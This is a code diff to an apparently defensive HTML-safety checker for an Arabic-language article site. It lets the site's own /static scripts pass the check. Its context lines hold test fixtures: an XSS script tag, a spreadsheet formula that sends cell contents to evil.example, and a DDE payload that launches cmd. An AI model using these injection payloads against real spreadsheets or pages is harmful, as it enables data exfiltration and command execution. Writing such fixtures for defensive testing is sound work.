@@ -30,6 +30,8 @@ TAG_NAME = f"<script>window.__xss=11</script>وسم{RLO}"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"وزير الدفاع")'
 FORMULA_TAGS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+وزير", "-2+3"]
 DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
+# A script file of ours (the article page's citation.js): the one kind of script the CSP (script-src 'self') runs.
+OWN_SCRIPT = re.compile(r"^/static/[\w/-]+\.js$")
 _INVISIBLE = re.compile(r"[\x00-\x20\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
 
 
@@ -67,7 +69,8 @@ def unsafe_markup(html: str, *, allow_external_scripts: bool = False, allowed_ta
             problems.append(f"<{tag}> not allowed here")
         if tag in ("iframe", "object", "embed", "frame", "frameset", "base", "applet"):
             problems.append(f"<{tag}>")
-        if tag == "script" and not (allow_external_scripts and dict(attrs).get("src")):
+        src = dict(attrs).get("src") or ""
+        if tag == "script" and not (src and (allow_external_scripts or OWN_SCRIPT.match(src))):
             if dict(attrs).get("type") != "application/json":
                 problems.append("<script> without src")
         for name, value in attrs:
